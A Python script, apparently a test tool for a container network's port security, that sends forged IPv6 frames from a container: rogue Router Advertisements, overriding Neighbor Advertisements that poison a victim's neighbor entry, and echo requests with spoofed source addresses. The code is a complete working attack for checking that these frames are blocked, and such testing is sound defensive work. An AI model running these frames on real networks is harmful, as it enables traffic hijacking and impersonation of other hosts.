#!/usr/bin/python3
"""IPv6 attacks from a container with a raw AF_PACKET socket on eth0 (issue 27's port security):

  nd-attack.py ra COUNT                 Router Advertisement to ff02::1 from my link-local: default router, prefix
                                        2001:db8:bad::/64 autonomous
  nd-attack.py na COUNT VICTIM_LL DST_MAC DST_LL
                                        unsolicited, overriding Neighbor Advertisement to DST: VICTIM_LL is at my MAC
  nd-attack.py spoof COUNT SRC DST_MAC DST
                                        an echo request from SRC (another container's address) to DST
Checksums are right, so a receiver would take them: only berth stands in the way.
"""
import socket
import struct
import sys


def mac_of(iface):
    return bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))


def link_local(mac):
    eui = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:6]
    return b"\xfe\x80" + bytes(6) + eui


def checksum(src, dst, payload):
    pseudo = src + dst + struct.pack("!I", len(payload)) + b"\x00\x00\x00\x3a"
    data = pseudo + payload + (b"\x00" if len(payload) % 2 else b"")
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(dst_mac, src_mac, src, dst, icmp):
    icmp = icmp[:2] + struct.pack("!H", checksum(src, dst, icmp)) + icmp[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src + dst
    return dst_mac + src_mac + b"\x86\xdd" + ip + icmp


def main():
    what, count = sys.argv[1], int(sys.argv[2])
    me = mac_of("eth0")
    ll = link_local(me)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    if what == "ra":
        prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
        icmp = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + struct.pack("!BB", 1, 1) + me + prefix
        f = frame(bytes.fromhex("333300000001"), me, ll, socket.inet_pton(socket.AF_INET6, "ff02::1"), icmp)
    elif what == "na":
        victim = socket.inet_pton(socket.AF_INET6, sys.argv[3])
        dst_mac = bytes.fromhex(sys.argv[4].replace(":", ""))
        dst = socket.inet_pton(socket.AF_INET6, sys.argv[5])
        icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + victim + struct.pack("!BB", 2, 1) + me
        f = frame(dst_mac, me, ll, dst, icmp)
    else:
        src = socket.inet_pton(socket.AF_INET6, sys.argv[3])
        dst_mac = bytes.fromhex(sys.argv[4].replace(":", ""))
        dst = socket.inet_pton(socket.AF_INET6, sys.argv[5])
        icmp = struct.pack("!BBHHH", 128, 0, 0, 0x4242, 1) + b"spoofed!"
        f = frame(dst_mac, me, src, dst, icmp)
    for _ in range(count):
        s.send(f)
    print("sent", count)


if __name__ == "__main__":
    main()
